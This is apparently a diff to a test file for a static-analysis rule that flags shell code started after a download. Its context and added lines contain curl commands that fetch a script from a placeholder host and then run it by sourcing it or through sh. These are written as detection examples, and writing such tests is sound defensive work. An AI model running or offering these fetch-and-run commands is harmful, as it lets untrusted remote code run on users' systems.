@@ -20,3 +20,5 @@ chmod +x runner
 ./runner &
 # ruleid: remote-code-shell-started-after-download
 curl -s https://a.invalid/r > /tmp/part && . /tmp/part
+# ruleid: remote-code-shell-started-after-download
+curl -s https://a.invalid/go | tee /tmp/go > /dev/null && sh /tmp/go
